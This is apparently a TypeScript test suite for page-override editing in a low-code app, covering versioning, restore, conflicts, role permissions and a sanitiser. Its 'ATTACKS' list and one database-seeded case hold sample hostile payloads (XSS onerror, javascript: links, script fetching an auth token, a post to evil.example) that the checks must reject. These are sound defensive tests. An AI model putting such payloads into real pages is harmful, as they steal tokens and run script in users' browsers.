/** Page overrides: versions, restore, refresh after a model change, conflicts, per-caller fit. */
import { createTestDatabase, type TestDatabase } from '@tessera/db/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { callerAs, testServices } from './test/fixtures';

let t: TestDatabase;
const services = () => testServices(t.db, { databaseUrl: t.url, runtimeUrl: 'http://rt' });

beforeAll(async () => {
  t = await createTestDatabase();
}, 120_000);
afterAll(() => t.drop());

describe('page overrides', () => {
  type Column = { name?: string; label?: string };
  const columnsOf = (schema: unknown) =>
    (schema as { body: { columns: Column[] }[] }).body[0]!.columns;
  const desk = { project: 'desk', entity: 'ticket' };

  beforeAll(async () => {
    const { caller } = await callerAs(services(), ['admin']);
    await caller.schema.import({
      project: 'desk',
      document: JSON.stringify({
        project: 'desk',
        entities: [
          {
            code: 'ticket',
            name: 'Ticket',
            fields: [
              { code: 'subject', type: 'string', length: 100, required: true },
              { code: 'notes', type: 'text' },
            ],
          },
        ],
      }),
    });
    await caller.schema.publish({ project: 'desk', confirm: [] });
  });

  it('are saved as versions, shown to everyone and follow a model change', async () => {
    const { caller } = await callerAs(services(), ['admin']);
    const { generated, versions } = await caller.page.source(desk);
    expect(versions).toEqual([]);
    const edited = structuredClone(generated) as Record<string, unknown>;
    edited.title = 'Help desk';
    const columns = columnsOf(edited);
    columns.find((c) => c.name === 'subject')!.label = 'Topic';
    columns.find((c) => c.name === 'notes')!.label = 'Remarks';
    await expect(
      caller.page.save({ ...desk, schema: edited, note: 'Friendlier' }),
    ).resolves.toEqual({ version: 1 });
    const viewer = (await callerAs(services(), ['viewer'])).caller;
    const seen = await viewer.page.entity(desk);
    expect(seen.schema).toMatchObject({ title: 'Help desk' });
    expect(columnsOf(seen.schema).find((c) => c.name === 'subject')!.label).toBe('Topic');

    // A new field appears in the generated part; the edits stay.
    await caller.model.createField({
      project: 'desk',
      entity: 'ticket',
      field: { code: 'priority', type: 'integer' },
    });
    await caller.schema.publish({ project: 'desk', confirm: [] });
    const after = await caller.page.entity(desk);
    expect(
      columnsOf(after.schema)
        .map((c) => c.name)
        .filter(Boolean),
    ).toEqual(['subject', 'notes', 'priority']);
    expect(after.override).toEqual({ version: 1, conflicts: [] });
  });

  it('report an edit of a dropped field as a conflict to editors only', async () => {
    const { caller } = await callerAs(services(), ['admin']);
    await caller.model.deleteField({ project: 'desk', entity: 'ticket', code: 'notes' });
    const plan = await caller.schema.plan({ project: 'desk' });
    await caller.schema.publish({
      project: 'desk',
      confirm: plan.steps.filter((s) => s.risk === 'needs-confirmation').map((s) => s.id),
    });
    const page = await caller.page.entity(desk);
    expect(page.override!.conflicts).toEqual([expect.stringContaining('"notes"')]);
    expect(page.schema).toMatchObject({ title: 'Help desk' });
    const viewer = await (await callerAs(services(), ['viewer'])).caller.page.entity(desk);
    expect(viewer.override).toEqual({ version: 1, conflicts: [] });
    expect((await caller.page.source(desk)).conflicts).toHaveLength(1);
  });

  it('restore an earlier version, or go back to the generated page', async () => {
    const { caller } = await callerAs(services(), ['admin']);
    await caller.page.reset(desk);
    expect((await caller.page.entity(desk)).schema).toMatchObject({ title: 'Ticket' });
    await caller.page.restore({ ...desk, version: 1 });
    expect((await caller.page.entity(desk)).schema).toMatchObject({ title: 'Help desk' });
    const { versions } = await caller.page.source(desk);
    expect(versions.map((v) => [v.version, v.note, v.generated])).toEqual([
      [3, 'Restored version 1', false],
      [2, 'Back to the generated page', true],
      [1, 'Friendlier', false],
    ]);
    await expect(caller.page.restore({ ...desk, version: 9 })).rejects.toThrow('No version 9');
  });

  it('refuse JSON amis cannot read, and callers without page:update', async () => {
    const { caller } = await callerAs(services(), ['admin']);
    await expect(
      caller.page.save({ ...desk, schema: { type: 'crud' }, note: null }),
    ).rejects.toThrow('top level is a "page"');
    await expect(
      caller.page.save({
        ...desk,
        schema: { type: 'page', body: { type: 'input-number', min: 'x' } },
        note: null,
      }),
    ).rejects.toThrow('not valid amis');
    expect(await caller.page.check({ ...desk, schema: { type: 'page', title: 'ok' } })).toEqual({
      ok: true,
    });
    const viewer = (await callerAs(services(), ['viewer'])).caller;
    await expect(
      viewer.page.save({ ...desk, schema: { type: 'page' }, note: null }),
    ).rejects.toThrow(/page:update/);
    await expect(viewer.page.source(desk)).rejects.toThrow(/page:update/);
  });

  it("never bring back to a viewer's page what a viewer may not do", async () => {
    const { caller } = await callerAs(services(), ['admin']);
    const { page } = await caller.page.source(desk);
    const edited = structuredClone(page) as { body: { headerToolbar: unknown[] }[] };
    edited.body[0]!.headerToolbar.push({
      type: 'button',
      label: 'Quick ticket',
      actionType: 'ajax',
      api: 'post:http://rt/api/v1/desk/ticket',
    });
    await caller.page.save({ ...desk, schema: edited, note: 'Quick ticket' });
    expect(JSON.stringify((await caller.page.entity(desk)).schema)).toContain('Quick ticket');
    const viewer = (await callerAs(services(), ['viewer'])).caller;
    const seen = JSON.stringify((await viewer.page.entity(desk)).schema);
    expect(seen).not.toContain('Quick ticket');
  });

  describe('what an edit may hold', () => {
    /** The generated page with `change` made to it. */
    const edited = async (change: (page: Record<string, any>) => void) => {
      const { caller } = await callerAs(services(), ['admin']);
      const page = structuredClone((await caller.page.source(desk)).generated) as Record<
        string,
        any
      >;
      change(page);
      return page;
    };
    const ATTACKS: [string, (page: Record<string, any>) => void, RegExp][] = [
      [
        'a custom action running script on init',
        (page) => {
          page.onEvent = {
            init: { actions: [{ actionType: 'custom', script: 'fetch("/api/auth/token")' }] },
          };
        },
        /onEvent\.init\.actions\.0\.actionType: custom actions run script/,
      ],
      [
        'a tpl with raw HTML',
        (page) => {
          page.body.push({ type: 'tpl', tpl: '<img src=x onerror=alert(1)>' });
        },
        /raw HTML is not allowed/,
      ],
      [
        'a service posting page data to another origin',
        (page) => {
          page.body.push({
            type: 'service',
            api: { method: 'post', url: 'https://evil.example/x', data: { '&': '$$' } },
          });
        },
        /API addresses may only call this project's data API \(http:\/\/rt\/api\/v1\/desk\/…\)/,
      ],
      [
        'a lodash template',
        (page) => {
          page.title = "<%= fetch('/api/auth/token') %>";
        },
        /lodash templates/,
      ],
      [
        'an adaptor changed to script',
        (page) => {
          page.body[0].api = {
            method: 'get',
            url: 'http://rt/api/v1/desk/ticket',
            adaptor: 'return fetch("x")',
          };
        },
        /'adaptor' runs script/,
      ],
      [
        'a javascript: link',
        (page) => {
          page.body.push({
            type: 'button',
            label: 'Go',
            actionType: 'url',
            url: 'javascript:alert(1)',
          });
        },
        /links may not run script/,
      ],
      [
        'an html component',
        (page) => {
          page.body.push({ type: 'html', html: 'hello' });
        },
        /html components show raw HTML/,
      ],
    ];

    it.each(ATTACKS)(
      'refuses %s when saved, naming it in the check',
      async (_name, change, reason) => {
        const { caller } = await callerAs(services(), ['admin']);
        const schema = await edited(change);
        const check = await caller.page.check({ ...desk, schema });
        expect(check.ok).toBe(false);
        expect(check.ok ? [] : check.errors).toEqual(
          expect.arrayContaining([expect.stringMatching(reason)]),
        );
        await expect(caller.page.save({ ...desk, schema, note: null })).rejects.toMatchObject({
          code: 'UNPROCESSABLE_CONTENT',
          message: expect.stringMatching(reason),
        });
      },
    );

    it('still takes labels, formulas and calls to the data API', async () => {
      const { caller } = await callerAs(services(), ['admin']);
      const schema = await edited((page) => {
        page.title = 'Tickets of ${__user} (a < b)';
        page.body.push({ type: 'service', api: 'get:http://rt/api/v1/desk/ticket?perPage=1' });
        page.body.push({
          type: 'button',
          label: 'Help',
          actionType: 'url',
          url: 'https://example.com/help',
        });
      });
      expect(await caller.page.check({ ...desk, schema })).toEqual({ ok: true });
      await expect(caller.page.save({ ...desk, schema, note: null })).resolves.toMatchObject({
        version: expect.any(Number),
      });
    });

    it('leaves out a stored edit that holds what a page may not, and tells its editors', async () => {
      const { caller } = await callerAs(services(), ['admin']);
      const project = await t.db.metaProject.findUniqueOrThrow({ where: { code: 'desk' } });
      const latest = await t.db.pageOverride.findFirst({
        where: { projectId: project.id },
        orderBy: { version: 'desc' },
      });
      // Written past the checks, as an edit saved before them would be.
      await t.db.pageOverride.create({
        data: {
          projectId: project.id,
          entityId: latest!.entityId,
          version: latest!.version + 1,
          patch: { $object: { title: { $set: '<img src=x onerror=alert(1)>' } } },
        },
      });
      const viewer = (await callerAs(services(), ['viewer'])).caller;
      const seen = await viewer.page.entity(desk);
      expect(JSON.stringify(seen.schema)).not.toContain('onerror');
      const editor = await caller.page.entity(desk);
      expect(editor.override?.conflicts).toEqual([
        expect.stringMatching(/^Left out, a page may not hold it: title: raw HTML/),
      ]);
      await expect(
        caller.page.restore({ ...desk, version: latest!.version + 1 }),
      ).rejects.toMatchObject({ message: expect.stringMatching(/holds what a page may not/) });
    });
  });
});
